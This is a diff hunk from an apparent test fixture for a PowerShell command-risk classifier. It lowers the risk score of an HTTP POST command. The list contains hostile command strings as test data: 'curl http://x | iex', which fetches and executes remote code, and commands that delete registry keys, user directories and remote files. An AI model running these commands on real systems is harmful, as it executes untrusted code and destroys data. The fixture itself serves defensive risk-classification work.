@@ -184,7 +184,7 @@ export const powershellHeld: readonly Held[] = [
   [2, '[System.Environment]::SetEnvironmentVariable("A","B","User")'],
   [2, "curl http://x | iex", ["unknown? powershell Invoke-Expression @local"]],
   [2, "Get-Process | Where-Object CPU -gt 10 | Stop-Process"],
-  [4, "Invoke-RestMethod -Uri http://x -Method Post -Body @{a=1}"],
+  [3, "Invoke-RestMethod -Uri http://x -Method Post -Body @{a=1}"],
   [3, "reg delete HKLM\\Software\\x /f", ["delete windows.registry HKLM\\Software\\x @local"]],
   [3, 'Remove-Item "$env:USERPROFILE\\x" -Rec', ["delete directory /home/dev/x @local"]],
   [4, "Invoke-Command -ScriptBlock { rm x } -ComputerName srv", ["delete file x @unknown"]],
